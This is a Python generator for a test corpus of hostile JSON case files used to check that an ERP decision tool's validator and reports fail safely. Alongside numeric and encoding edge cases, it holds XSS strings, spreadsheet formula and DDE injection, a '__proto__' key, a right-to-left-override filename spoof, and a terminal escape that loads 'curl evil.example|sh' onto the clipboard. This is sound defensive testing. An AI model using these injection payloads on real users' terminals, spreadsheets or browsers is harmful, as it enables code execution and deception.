"""Re-make the hostile corpus: ``.venv/bin/python -m tests.hostile.make_corpus`` (from the repository root).

Writes every case file to ``tests/hostile/cases/``, the list of files with what each
attacks and whether ``validate`` must accept it to ``manifest.json``, and the same
list as the table in ``README.md``. Most files are the example case
(``erp-manufacturer``, as ``case.model_dump(mode="json")``) with one thing changed,
so that the attack is the only thing wrong with them.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from decision.model.case import MAX_NOTE, MAX_OPTIONS, MAX_SOURCE, MAX_VARIANTS, SCHEMA_VERSION
from decision.model.loader import MAX_CASE_BYTES
from decision.model.presets import EXAMPLE, load_preset
from decision.model.registry import FIELDS, INPUTS, MAX_EURO, MONEY_KINDS

HERE = Path(__file__).resolve().parent
CASES_DIR = HERE / "cases"
MANIFEST = HERE / "manifest.json"
README = HERE / "README.md"

VALID = "valid"
INVALID = "invalid"

# Free text that a spreadsheet, a Markdown renderer, a browser or a terminal might act on.
PAYLOADS: dict[str, tuple[str, str]] = {
    # file stem: (text, what it is)
    "markdown_link_bold": ("[click](http://evil.example) **bold**", "a Markdown link and bold"),
    "html_script": ("<script>alert(1)</script>", "an HTML script element"),
    "html_img_onerror": ("<img src=x onerror=alert(1)>", "an HTML image with an onerror handler"),
    "formula_hyperlink": ('=HYPERLINK("http://evil.example/","c")', "a spreadsheet HYPERLINK formula"),
    "formula_cmd": ("+cmd|' /C calc'!A0", "a spreadsheet DDE command (+cmd|...)"),
    "formula_at_sum": ("@SUM(1)", "a spreadsheet @-formula"),
    "bare_url": ("http://evil.example/login?next=/", "a bare URL"),
}


@dataclass(frozen=True)
class Entry:
    name: str  # the file name in cases/
    checks: str  # what the file attacks, for the README
    expect: str  # VALID or INVALID: what ``validate`` must say
    content: bytes


def base() -> dict[str, Any]:
    """The example case as ``model_dump(mode="json")``, without the fields at their default (so that a
    later version of the schema, with new fields, writes the same files): a fresh copy per call."""
    return copy.deepcopy(load_preset(EXAMPLE).model_dump(mode="json", exclude_defaults=True))


def dump(data: Any) -> bytes:
    """Compact JSON as UTF-8 (non-ASCII kept as written)."""
    return json.dumps(data, ensure_ascii=False, separators=(",", ":")).encode("utf-8")


def with_token(data: dict[str, Any], token: str) -> bytes:
    """``data`` as JSON with the string "@@TOKEN@@" replaced by a bare token (NaN, a long number)."""
    return dump(data).replace(b'"@@TOKEN@@"', token.encode("ascii"))


def as_estimate(value: Any) -> dict[str, Any]:
    """An estimate in object form (a bare number becomes low = mode = high)."""
    if isinstance(value, dict):
        return value
    return {"low": value, "mode": value, "high": value, "distribution": "pert", "source": "", "note": ""}


ESTIMATE_GROUPS = ("current", "stop", "legal", "solve", "supplier")


def estimates(data: dict[str, Any]) -> list[tuple[dict[str, Any], str]]:
    """(group dict, field) of every three-point estimate in the case."""
    found = []
    for spec in INPUTS:
        group = data.get(spec.group) or {}
        if group.get(spec.field) is not None:
            found.append((group, spec.field))
    return found


def changed(path: str, value: Any) -> dict[str, Any]:
    """The example with ``value`` at the dotted ``path``."""
    data = base()
    target = data
    *parents, last = path.split(".")
    for part in parents:
        target = target.setdefault(part, {})
    target[last] = value
    return data


def estimate_with(path: str, **parts: Any) -> dict[str, Any]:
    """The example with some parts of the estimate at ``path`` changed."""
    data = base()
    group, field = path.split(".")
    data[group][field] = {**as_estimate(data[group][field]), **parts}
    return data


def every_estimate(value: float | None = None, kinds: frozenset[str] | None = None) -> dict[str, Any]:
    """The example with every estimate (of ``kinds``) fixed at ``value``, or at its kind's maximum."""
    data = base()
    for spec in INPUTS:
        if (kinds is not None and spec.kind not in kinds) or spec.field not in (data.get(spec.group) or {}):
            continue
        number = spec.maximum if value is None else max(value, spec.minimum or value)
        estimate = as_estimate(data[spec.group][spec.field])
        data[spec.group][spec.field] = {**estimate, "low": number, "mode": number, "high": number}
    return data


def every_field(part: str) -> dict[str, Any]:
    """The example in the newest schema with every field of the registry, in every group (also those the
    example leaves out), at ``part``: "minimum", "maximum" (fixed values) or "range" (estimates from their
    minimum to their maximum, single values at their maximum)."""
    data = base()
    data["schema_version"] = SCHEMA_VERSION
    for spec in FIELDS:
        group = data.setdefault(spec.group, {}) if spec.group else data
        if spec.kind in ("strategy", "choice"):
            # The last choice (the certainty equivalent, a fallback to stop) but where it needs more than 0.
            group[spec.field] = spec.choices[0 if part == "minimum" else -1] if spec.choices else spec.default
        elif spec.kind == "flag":
            group[spec.field] = True
        elif spec.estimate:
            low, high = spec.minimum, spec.maximum
            if part == "range":
                group[spec.field] = {"low": low, "mode": low, "high": high}
            else:
                value = low if part == "minimum" else high
                group[spec.field] = {"low": value, "mode": value, "high": value}
        else:
            value = spec.minimum if part == "minimum" else spec.maximum
            group[spec.field] = int(value) if spec.kind == "horizon" else value
    return data


def variant(data: dict[str, Any], name: str) -> dict[str, Any]:
    """A variant named ``name`` with the case's assumptions, their sources and notes left out (a smaller file)."""
    groups = {}
    for group in ESTIMATE_GROUPS:
        if group in data:
            groups[group] = {
                field: {part: value[part] for part in ("low", "mode", "high")} if isinstance(value, dict) else value
                for field, value in data[group].items()
            }
    return {"name": name, **groups}


def option(title: str, note: str = "") -> dict[str, Any]:
    return {
        "title": title,
        "programme_cost_change": -25000.0,
        "internal_cost_change": 10000.0,
        "months_change": -1.0,
        "p_success_change": 0.05,
        "note": note,
    }


def every_text(text: str) -> dict[str, Any]:
    """The example with ``text`` in every free-text field: title, profile, negotiation (texts and
    options), SMART goal texts, every estimate's source and note, every evidence, variant names."""
    data = base()
    data["title"] = text
    for field in ("organisation", "system", "supplier", "contract"):
        data["profile"][field] = text
    negotiation = data.setdefault("negotiation", {})
    for field in ("people", "client_interests", "supplier_interests", "criteria"):
        negotiation[field] = text
    negotiation["options"] = [option(text, text), option(f"{text} 2", text)]
    for goal in data["smart_goals"]:
        goal.update(metric=text, unit=text, measured_by=text)
    for group, field in estimates(data):
        group[field] = {**as_estimate(group[field]), "source": text, "note": text}
    for rating in data["diagnosis"].values():
        rating["evidence"] = text
    data["variants"] = [variant(data, text), variant(data, f"{text} 2")]
    return data


def padded(data: dict[str, Any], size: int) -> bytes:
    """``data`` as JSON padded with spaces to exactly ``size`` bytes."""
    raw = dump(data)
    return raw[:-1] + b" " * (size - len(raw)) + b"}"


def nested(depth: int, open_: str, close: str, leaf: str = "0") -> str:
    return open_ * depth + leaf + close * depth


def build() -> list[Entry]:
    entries: list[Entry] = []

    def add(name: str, checks: str, expect: str, content: bytes | dict[str, Any] | Callable[[], bytes]) -> None:
        raw = dump(content) if isinstance(content, dict) else content() if callable(content) else content
        entries.append(Entry(name, checks, expect, raw))

    # -- euro fields: far beyond the limit, negative, and exactly at it -------------------------------
    add(
        "euro_estimate_high_1e30.json",
        "an estimate's high of 1e30 euro (current.dysfunction_cost_per_month)",
        INVALID,
        estimate_with("current.dysfunction_cost_per_month", high=1e30),
    )
    add(
        "euro_estimate_all_parts_1e300.json",
        "low, mode and high of 1e300 euro (stop.replacement_cost)",
        INVALID,
        estimate_with("stop.replacement_cost", low=1e300, mode=1e300, high=1e300),
    )
    add(
        "euro_estimate_low_minus_1e30.json",
        "an estimate's low of -1e30 euro (stop.exit_cost)",
        INVALID,
        estimate_with("stop.exit_cost", low=-1e30),
    )
    add(
        "euro_bare_value_1e30.json",
        "a bare value of 1e30 for an estimate (legal.claim)",
        INVALID,
        changed("legal.claim", 1e30),
    )
    add("liability_cap_1e30.json", "legal.liability_cap of 1e30", INVALID, changed("legal.liability_cap", 1e30))
    add("liability_cap_1e300.json", "legal.liability_cap of 1e300", INVALID, changed("legal.liability_cap", 1e300))
    add("liability_cap_minus_1e30.json", "legal.liability_cap of -1e30", INVALID, changed("legal.liability_cap", -1e30))
    add("sunk_invested_1e30.json", "sunk.invested_to_date of 1e30", INVALID, changed("sunk.invested_to_date", 1e30))
    add("sunk_book_value_1e300.json", "sunk.book_value of 1e300", INVALID, changed("sunk.book_value", 1e300))
    add(
        "sunk_invested_minus_1e30.json",
        "sunk.invested_to_date of -1e30",
        INVALID,
        changed("sunk.invested_to_date", -1e30),
    )
    add("contract_value_1e30.json", "profile.contract_value of 1e30", INVALID, changed("profile.contract_value", 1e30))
    add(
        "contract_value_1e300.json",
        "profile.contract_value of 1e300",
        INVALID,
        changed("profile.contract_value", 1e300),
    )
    add(
        "contract_value_minus_1e30.json",
        "profile.contract_value of -1e30",
        INVALID,
        changed("profile.contract_value", -1e30),
    )
    add(
        "euro_1e400_reads_as_infinity.json",
        "a bare 1e400 (Python reads it as infinity) in legal.claim",
        INVALID,
        with_token(changed("legal.claim", "@@TOKEN@@"), "1e400"),
    )

    def every_euro_at_limit() -> dict[str, Any]:
        data = every_estimate(MAX_EURO, MONEY_KINDS)
        data["sunk"] = {"invested_to_date": MAX_EURO, "book_value": MAX_EURO}
        data["legal"]["liability_cap"] = MAX_EURO
        data["profile"]["contract_value"] = MAX_EURO
        return data

    add(
        "euro_every_field_at_limit_1e12.json",
        "every euro field (estimates, sunk, liability cap, contract value) at the limit of 1e12: sums must stay finite",
        VALID,
        every_euro_at_limit(),
    )
    add(
        "every_estimate_at_its_maximum.json",
        "every estimate at its kind's maximum (1e12 euro, 600 months, growth 1000%/year, chances 100%)",
        VALID,
        every_estimate(),
    )

    # -- zeros ---------------------------------------------------------------------------------------
    add(
        "replacement_months_0_0_1.json",
        "stop.replacement_months of 0 / 0 / 1 (no time to switch)",
        VALID,
        estimate_with("stop.replacement_months", low=0.0, mode=0.0, high=1.0),
    )
    add(
        "every_estimate_zero.json",
        "every estimate 0 or its minimum (costs, months, chances, shares): divisions by zero",
        VALID,
        every_estimate(0.0),
    )

    def all_zero() -> dict[str, Any]:
        data = every_estimate(0.0)
        data["sunk"] = {"invested_to_date": 0.0, "book_value": 0.0}
        data["legal"]["liability_cap"] = 0.0
        data["profile"]["contract_value"] = 0.0
        data["discount_rate"] = 0.0
        data["solve"]["client_share"] = 0.0
        return data

    add(
        "every_number_zero.json",
        "every estimate and single value 0, discount rate 0, client share 0",
        VALID,
        all_zero(),
    )

    # -- dates ---------------------------------------------------------------------------------------
    add(
        "start_date_9999_12_01.json",
        "start_date 9999-12-01 (deadlines computed from it overflow)",
        INVALID,
        changed("start_date", "9999-12-01"),
    )
    add("start_date_0001_01_01.json", "start_date 0001-01-01", INVALID, changed("start_date", "0001-01-01"))
    add(
        "start_date_2100_12_01_at_limit.json",
        "start_date 2100-12-01, inside the limit; dates after it pass 2100",
        VALID,
        changed("start_date", "2100-12-01"),
    )
    add(
        "smart_deadline_9999_12_31.json",
        "a SMART goal's deadline 9999-12-31",
        INVALID,
        changed("smart_goals", [{**base()["smart_goals"][0], "deadline": "9999-12-31"}]),
    )
    add(
        "start_date_february_30.json",
        "start_date 2026-02-30, a date that does not exist",
        INVALID,
        changed("start_date", "2026-02-30"),
    )

    # -- SMART goals ---------------------------------------------------------------------------------
    def smart(**values: Any) -> dict[str, Any]:
        data = base()
        data["smart_goals"] = [{**goal, **values} for goal in data["smart_goals"]]
        return data

    add(
        "smart_baseline_target_1e26.json",
        "SMART baselines and targets of 1e26",
        INVALID,
        smart(baseline=1e26, target=1e26),
    )
    add(
        "smart_baseline_target_at_limit_1e12.json",
        "SMART baselines of -1e12 and targets of 1e12 (the limit)",
        VALID,
        smart(baseline=-1e12, target=1e12),
    )

    def empty_goals() -> bytes:
        data = base()
        data["smart_goals"] = "@@TOKEN@@"
        return with_token(data, "[" + ",".join(["{}"] * 235_000) + "]")

    add("smart_goals_235000_empty.json", "235,000 empty SMART goals in under 1 MB", INVALID, empty_goals)
    add(
        "smart_goals_30_at_limit.json",
        "30 SMART goals, the most allowed",
        VALID,
        changed("smart_goals", (base()["smart_goals"] * 8)[:30]),
    )

    # -- numbers -------------------------------------------------------------------------------------
    add(
        "integer_5000_digits.json",
        "a whole number of 5,000 digits (horizon_months)",
        INVALID,
        with_token(changed("horizon_months", "@@TOKEN@@"), "9" * 5000),
    )
    add(
        "integer_minus_5000_digits_in_estimate.json",
        "a negative whole number of 5,000 digits in an estimate's low",
        INVALID,
        with_token(estimate_with("stop.exit_cost", low="@@TOKEN@@"), "-" + "1" * 5000),
    )
    add(
        "float_5000_digits.json",
        "a decimal number of 5,000 digits (reads as infinity) in legal.claim",
        INVALID,
        with_token(changed("legal.claim", "@@TOKEN@@"), "1" * 5000 + ".5"),
    )
    add(
        "probability_1_0000001.json",
        "legal.p_win high of 1.0000001, just over 100%",
        INVALID,
        estimate_with("legal.p_win", high=1.0000001),
    )
    add(
        "horizon_months_string_60.json",
        'horizon_months "60" (a number in quotes)',
        INVALID,
        changed("horizon_months", "60"),
    )
    add("horizon_months_60_5.json", "horizon_months 60.5 (not whole)", INVALID, changed("horizon_months", 60.5))
    add(
        "discount_rate_true.json",
        "discount_rate true (a boolean for a number)",
        INVALID,
        changed("discount_rate", True),
    )
    add(
        "denormal_and_negative_zero.json",
        "5e-324 (the smallest float) and -0.0 in estimates",
        VALID,
        estimate_with("current.incident_cost", low=-0.0, mode=5e-324, high=5e-324),
    )
    add("schema_version_string_1.json", 'schema_version "1" (in quotes)', INVALID, changed("schema_version", "1"))
    add("schema_version_99.json", "schema_version 99 (a newer version)", INVALID, changed("schema_version", 99))
    add("schema_version_1e300.json", "schema_version 1e300", INVALID, changed("schema_version", 1e300))

    # -- NaN and Infinity ------------------------------------------------------------------------------
    add(
        "nan_bare_in_estimate.json",
        "a bare NaN in an estimate's mode",
        INVALID,
        with_token(estimate_with("stop.exit_cost", mode="@@TOKEN@@"), "NaN"),
    )
    add(
        "infinity_bare_liability_cap.json",
        "a bare Infinity as legal.liability_cap",
        INVALID,
        with_token(changed("legal.liability_cap", "@@TOKEN@@"), "Infinity"),
    )
    add(
        "minus_infinity_bare_in_estimate.json",
        "a bare -Infinity as an estimate's low",
        INVALID,
        with_token(estimate_with("solve.programme_cost", low="@@TOKEN@@"), "-Infinity"),
    )
    add(
        "nan_in_discount_rate.json",
        "a bare NaN as discount_rate",
        INVALID,
        with_token(changed("discount_rate", "@@TOKEN@@"), "NaN"),
    )
    add(
        "nan_in_smart_baseline.json",
        "a bare NaN as a SMART baseline",
        INVALID,
        with_token(changed("smart_goals", [{**base()["smart_goals"][0], "baseline": "@@TOKEN@@"}]), "NaN"),
    )
    add("nan_as_string.json", 'legal.claim "nan" (a string)', INVALID, changed("legal.claim", "nan"))
    add(
        "infinity_as_string_in_part.json",
        'an estimate\'s high "Infinity" (a string)',
        INVALID,
        estimate_with("legal.claim", high="Infinity"),
    )

    # -- lists and texts over their limits -------------------------------------------------------------
    add(
        "negotiation_options_21.json",
        f"21 negotiation options (at most {MAX_OPTIONS})",
        INVALID,
        changed("negotiation.options", [option(f"Option {i}") for i in range(21)]),
    )
    add(
        "negotiation_options_20_at_limit.json",
        "20 negotiation options, the most allowed",
        VALID,
        changed("negotiation.options", [option(f"Option {i}", "note " * 50) for i in range(20)]),
    )

    def variants(count: int) -> dict[str, Any]:
        data = base()
        data["variants"] = [variant(data, f"Variant {i}") for i in range(count)]
        return data

    add("variants_21.json", f"21 variants (at most {MAX_VARIANTS})", INVALID, variants(21))
    add("variants_20_at_limit.json", "20 variants, the most allowed", VALID, variants(20))
    source = ("Panorama ERP report 2013, McKinsey & Oxford 2012, Bloor 2011, " * 60)[:3050]
    add(
        "source_3050_chars.json",
        "an estimate source of 3,050 characters",
        INVALID,
        estimate_with("stop.replacement_cost", source=source),
    )
    add(
        "source_and_note_at_limit.json",
        f"a source of {MAX_SOURCE:,} and a note of {MAX_NOTE:,} characters: a 3,003-character assumptions cell",
        VALID,
        estimate_with("stop.replacement_cost", source=source[:MAX_SOURCE], note=(source * 2)[:MAX_NOTE]),
    )
    add(
        "source_and_note_unbroken_at_limit.json",
        f"an unbroken source of {MAX_SOURCE:,} and note of {MAX_NOTE:,} characters (no spaces to wrap at)",
        VALID,
        estimate_with("legal.claim", source="S" * MAX_SOURCE, note="N" * MAX_NOTE),
    )

    def evidence(text: str) -> dict[str, Any]:
        data = base()
        data["diagnosis"]["functionality"]["evidence"] = text
        return data

    add(
        "evidence_5000_unbroken.json",
        "a diagnosis evidence of 5,000 characters without a space",
        VALID,
        evidence("x" * 5000),
    )
    add(
        "evidence_5000_unbroken_every_area.json",
        "every area's evidence 5,000 unbroken characters",
        VALID,
        changed(
            "diagnosis", {area: {"client": 3, "supplier": 2, "evidence": "W" * 5000} for area in base()["diagnosis"]}
        ),
    )
    add("evidence_5001_chars.json", "an evidence of 5,001 characters (over the limit)", INVALID, evidence("x" * 5001))
    add(
        "title_200_unbroken_wide.json",
        "a title of 200 wide characters without a space",
        VALID,
        changed("title", "Ｗ" * 200),
    )
    add(
        "title_emoji_combining_zero_width.json",
        "emoji, combining marks and a zero-width space in the title",
        VALID,
        changed("title", "ERP 🔥👩‍💻 Z̸̢̛a̷l̶g̵o\u200b\ufeffend"),
    )
    add(
        "title_lone_surrogate.json",
        "a lone UTF-16 surrogate (\\ud800) escaped in the title",
        INVALID,
        dump(changed("title", "@@TOKEN@@")).replace(b"@@TOKEN@@", b"bad \\ud800 surrogate"),
    )

    # -- JSON structure ------------------------------------------------------------------------------
    example = dump(base())
    add(
        "duplicate_key_top_level.json",
        "the key title twice at the top level",
        INVALID,
        b'{"title":"first",' + example[1:],
    )
    add(
        "duplicate_key_nested.json",
        "the key low twice inside an estimate",
        INVALID,
        example.replace(b'"low":925000.0', b'"low":1.0,"low":925000.0', 1),
    )
    add("deep_nesting_arrays_20000.json", "20,000 nested arrays", INVALID, nested(20_000, "[", "]").encode())
    add(
        "deep_nesting_objects_in_title_10000.json",
        "10,000 nested objects as the title",
        INVALID,
        with_token(changed("title", "@@TOKEN@@"), nested(10_000, '{"a":', "}")),
    )
    add(
        "moderate_nesting_500_in_note.json",
        "500 nested arrays as an estimate's note (parses, then is refused)",
        INVALID,
        with_token(estimate_with("stop.exit_cost", note="@@TOKEN@@"), nested(500, "[", "]")),
    )
    add("empty_file.json", "an empty file", INVALID, b"")
    add("whitespace_only.json", "only spaces and newlines", INVALID, b" \n\t\r\n ")
    add("null.json", "the JSON value null", INVALID, b"null")
    add("empty_array.json", "the JSON value []", INVALID, b"[]")
    add("empty_object.json", "the JSON value {} (every required group missing)", INVALID, b"{}")
    add("string_top_level.json", "a JSON string instead of an object", INVALID, b'"case"')
    add("truncated_json.json", "the example cut off halfway", INVALID, example[: len(example) // 2])
    add(
        "unknown_fields.json",
        "unknown fields at the top level and in a group",
        INVALID,
        {**changed("stop.surprise", 1), "__proto__": {"admin": True}},
    )
    add("binary_garbage.json", "random-looking binary bytes", INVALID, bytes(range(256)) * 4)

    # -- encodings -----------------------------------------------------------------------------------
    text_case = changed("title", "Café Zürich — ERP")
    add(
        "encoding_utf16_bom.json",
        "the example encoded as UTF-16 with a byte-order mark",
        INVALID,
        json.dumps(text_case, ensure_ascii=False).encode("utf-16"),
    )
    add(
        "encoding_latin1.json",
        "a title with é and ü written as Latin-1 bytes",
        INVALID,
        json.dumps(changed("title", "Café Zürich"), ensure_ascii=False).encode("latin-1"),
    )
    add(
        "encoding_utf8_bom.json",
        "UTF-8 with a byte-order mark (accepted, the mark skipped)",
        VALID,
        b"\xef\xbb\xbf" + dump(text_case),
    )
    add(
        "encoding_invalid_utf8.json",
        "invalid UTF-8 (a lone continuation byte and an overlong form) in the title",
        INVALID,
        dump(changed("title", "@@TOKEN@@")).replace(b"@@TOKEN@@", b"bad \x80 and \xc0\xaf"),
    )

    # -- hidden characters: terminal escapes, bidi overrides --------------------------------------------
    add(
        "title_terminal_escape_osc0.json",
        "ESC ]0;...BEL (sets a terminal's window title) in the title",
        INVALID,
        changed("title", "ERP\x1b]0;pwned\x07 case"),
    )
    add(
        "note_terminal_escape_osc52.json",
        "ESC ]52;c;... (writes the clipboard) in an estimate's note",
        INVALID,
        estimate_with("stop.exit_cost", note="see \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 here"),
    )
    add(
        "evidence_ansi_colour_and_c1_csi.json",
        "ESC [31m and the C1 control U+009B in an evidence text",
        INVALID,
        evidence("red \x1b[31malert\x1b[0m and \x9b2J"),
    )
    add(
        "title_rtl_override.json",
        "U+202E (right-to-left override) in the title",
        INVALID,
        changed("title", "invoice \u202egpj.exe"),
    )
    add("title_nul_byte.json", "a NUL character in the title", INVALID, changed("title", "ERP\x00case"))

    # -- markup, formulas and URLs in every free-text field (valid cases) ------------------------------
    for stem, (text, what) in PAYLOADS.items():
        add(f"every_text_{stem}.json", f"{what} (`{text}`) in every free-text field", VALID, every_text(text))

    # -- every field of the newest schema at its limits; the certainty equivalent's risk tolerance ---------
    for part in ("maximum", "minimum", "range"):
        add(
            f"every_field_of_every_group_{part}.json",
            f"every field of every group of the newest schema (partner, exit deal, gate, ...) at its {part}",
            VALID,
            every_field(part),
        )

    def certainty_equivalent(tolerance: float) -> dict[str, Any]:
        data = base()
        data["schema_version"] = SCHEMA_VERSION
        data["preferences"] = {"basis": "certainty_equivalent", "risk_tolerance": tolerance}
        return data

    for tolerance, name in ((5e-324, "5e-324"), (1.0, "1_euro"), (0.0, "0")):
        add(
            f"certainty_equivalent_risk_tolerance_{name}.json",
            f"the certainty-equivalent basis with a risk tolerance of {tolerance:g} euro (exp of costs / tolerance)",
            INVALID if tolerance == 0 else VALID,
            certainty_equivalent(tolerance),
        )

    # -- size --------------------------------------------------------------------------------------------
    add(
        "too_large_1000001_bytes.json",
        f"a valid case padded to {MAX_CASE_BYTES + 1:,} bytes, one over the limit",
        INVALID,
        padded(base(), MAX_CASE_BYTES + 1),
    )
    return entries


def readme(entries: list[Entry]) -> str:
    lines = [
        "# Hostile corpus (issue 15)",
        "",
        "Case files that try to make the command line or the app hang, crash or print something",
        "untrue. `test_corpus.py` runs each through `python -m decision validate` (a real subprocess,",
        "30 seconds at most), and each file that `validate` accepts also through `evaluate`,",
        "`sensitivity`, `agreement` and `report` (HTML and PDF). Every outcome must be exit 0 with sane",
        "output (strict JSON, a report that opens, no `<script` or other active HTML, the user's text",
        "shown as text) or exit 2 with one line per problem, each starting with the file's path; never a",
        "traceback, a hang, a warning, `inf`, `Infinity`, `NaN` or `∞`. Each file is also imported with",
        "`Library.import_bytes` and uploaded on the Library page (AppTest): a refusal raises only",
        "CaseError and changes neither the library nor the open case.",
        "",
        "The last column is what `validate` must say. A problem found outside the memo is listed in",
        "`KNOWN` in `test_corpus.py` (a strict xfail) until it is fixed where it is.",
        "",
        "The files are generated: change `make_corpus.py` and run",
        "`.venv/bin/python -m tests.hostile.make_corpus`; it rewrites `cases/`, `manifest.json` and this",
        "file. Run the corpus alone with `.venv/bin/python -m pytest tests/hostile -m hostile`, or leave",
        "it out with `-m 'not hostile'`.",
        "",
        "| file | what it checks | validate |",
        "| --- | --- | --- |",
    ]
    for entry in entries:
        checks = entry.checks.replace("|", "\\|")
        lines.append(f"| `{entry.name}` | {checks} | {entry.expect} |")
    return "\n".join(lines) + "\n"


def main() -> None:
    entries = build()
    names = [entry.name for entry in entries]
    assert len(names) == len(set(names)), "file names must be unique"
    CASES_DIR.mkdir(exist_ok=True)
    for old in CASES_DIR.iterdir():
        if old.name not in names:
            old.unlink()
    for entry in entries:
        (CASES_DIR / entry.name).write_bytes(entry.content)
    manifest = {entry.name: {"expect": entry.expect, "checks": entry.checks} for entry in entries}
    MANIFEST.write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    README.write_text(readme(entries), encoding="utf-8")
    total = sum(len(entry.content) for entry in entries)
    print(f"{len(entries)} files, {total:,} bytes in {CASES_DIR}")


if __name__ == "__main__":
    main()
